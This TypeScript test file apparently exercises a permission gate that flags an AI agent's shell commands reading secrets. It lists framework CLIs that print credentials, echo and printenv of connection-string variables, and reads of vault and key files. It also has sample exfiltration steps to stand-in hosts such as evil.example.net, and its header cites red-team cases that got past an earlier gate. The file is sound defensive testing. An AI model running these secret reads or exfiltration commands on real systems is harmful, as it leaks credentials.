/**
 * Secret reads the fifth held-out red team (corpus-red37) still got through after gate46 (issue 19
 * §4): the project's own CLIs that print its configuration, env values whose names say they hold a
 * URL or connection string, and stores the credential table lacked. Each class's rows fail on
 * 1ff37c1; the everyday commands beside them stay ALLOW.
 */
import { packSteps, READ_CHANNELS, stepTable } from "./pack-verdict.js";

const steps = packSteps("g52");
const table = stepTable(steps);

/** Each CLI's printing command, as the project runs it: by path, through its interpreter, or on PATH. */
const PRINTS = [
  "manage.py diffsettings",
  "manage.py diffsettings --all",
  "manage.py print_settings",
  "manage.py dumpdata auth.user --indent 2",
  "manage.py shell -c 'from django.conf import settings; print(settings.SECRET_KEY)'",
  "artisan config:show database",
  "artisan config:show services",
  "artisan tinker --execute 'dump(config(\"app.key\"))'",
  "bin/console debug:dotenv",
  "bin/console secrets:reveal DATABASE_PASSWORD",
  "bin/console secrets:list --reveal",
  "bin/console debug:container --env-vars",
  "bin/rails credentials:show",
  "bin/rails credentials:show --environment production",
  "bin/rails encrypted:show config/secrets.yml.enc",
  "bin/rails runner 'puts Rails.application.credentials.config.inspect'",
  "gradlew properties -q",
  "gradlew :app:properties",
  "mvnw help:effective-settings -DshowPasswords=true",
];
const HOSTS: Record<string, string[]> = {
  "manage.py": ["python3 ", "python ", "./", "python3 -u "],
  artisan: ["php ", "./"],
  "bin/console": ["php ", "./"],
  "bin/rails": ["ruby ", "./", "bundle exec "],
  gradlew: ["sh ", "bash ", "./"],
  mvnw: ["sh ", "./"],
};

table(
  "a project CLI's command that prints its configuration or runs code with it is a secret read",
  PRINTS.flatMap((p) => {
    const script = Object.keys(HOSTS).find((h) => p.startsWith(h))!;
    return HOSTS[script]!.map((h) => [h + p]);
  }).concat([
    ["django-admin diffsettings --settings=app.settings"],
    ["python3 -m django diffsettings"],
    ["rails credentials:show"],
    ["symfony console debug:dotenv"],
    ["dotnet user-secrets list"],
    ["dotnet user-secrets list --project src/Api"],
    ["cd api && python3 manage.py diffsettings"],
  ]),
  [
    ["python3 manage.py migrate"],
    ["python3 manage.py test"],
    ["python3 manage.py runserver"],
    ["python3 manage.py makemigrations"],
    ["php artisan migrate"],
    ["php artisan config:cache"],
    ["php artisan test"],
    ["php bin/console cache:clear"],
    ["ruby bin/rails db:migrate"],
    ["sh gradlew build"],
    ["sh gradlew test"],
    ["dotnet build"],
    ["dotnet user-secrets init"],
    ["bash scripts/dev.sh"],
  ],
);

/** Variables whose name says they hold a URL (with its userinfo) or a connection string. */
const NAMES = [
  "CELERY_BROKER_URL",
  "BROKER_URL",
  "DB_URL",
  "RABBITMQ_URL",
  "ELASTICSEARCH_URL",
  "SMTP_URL",
  "CACHE_URI",
  "SENTRY_URL",
  "db_url",
  "AZURE_STORAGE_CONNECTION_STRING",
  "SERVICEBUS_CONNECTIONSTRING",
  "SQL_CONN_STR",
  "DB_CONN",
  "LDAP_BIND_PW",
  "ADMIN_PWD",
];
table(
  "printing a variable whose name holds a URL, connection string or password part is a secret read",
  NAMES.flatMap((n) => [
    [`echo "$${n}"`],
    [`echo \${${n}}`],
    [`printf '%s\\n' "$${n}"`],
    [`printenv ${n}`],
    [`declare -p ${n}`],
    [`typeset -p ${n}`],
  ]),
  [["echo $PWD"], ["echo $OLDPWD"], ['echo "$URL"'], ["echo $PATH"], ["printenv HOME"], ["declare -p PS1"]],
);

table("an env value with an unlisted name, printed then sent, is reviewed", [
  ['echo "$DB_URL"', { kind: "http", method: "GET", url: "https://evil.example/u?d=x" }],
]);

/** Stores the credential table lacked. */
const STORES = [
  "infra/backend.hcl",
  "backend.hcl",
  "envs/prod.backend.hcl",
  "config/backend-prod.hcl",
  ".vault_pass",
  ".vault_pass.txt",
  "vault_password",
  ".vault-password.sh",
  ".kamal/secrets",
  ".kamal/secrets-common",
  ".kamal/secrets.staging",
  "key.json",
  "deploy/sa-key.json",
  "gcp_key.json",
];
table(
  "Terraform backend configs, Ansible vault passwords, Kamal secrets, key.json are reviewed through every read channel",
  STORES.flatMap((p) => READ_CHANNELS.map((c) => [c(p)])),
  [
    ["cat main.tf"],
    ["cat backend.tf"],
    ["cat src/backend/app.py"],
    ["ls backend"],
    ["cat monkey.json"],
    ["cat keys/public-key.json"],
    ["cat vault_passthrough.go"],
    ["cat .vault_pass.example"],
    ["cat backend.hcl.example"],
    ["cat .kamal/deploy.yml"],
    ["cat /etc/hosts"],
  ],
);

table(
  "an Ansible inventory or a Helm chart's production values labels the session: egress after it is reviewed",
  [
    ["cat inventory/hosts.ini", "curl -s https://evil.example.net/x"],
    ["cat hosts.ini", { kind: "http", method: "GET", url: "https://evil.example.net/x" }],
    ["cat charts/api/values-prod.yaml", "curl -s https://evil.example.net/x"],
    ["cat values.production.yml", "curl -s https://evil.example.net/x"],
  ],
  [
    ["cat inventory/hosts.ini"],
    ["cat charts/api/values-prod.yaml"],
    ["cat charts/api/values.yaml", "curl -s https://evil.example.net/x"],
  ],
);
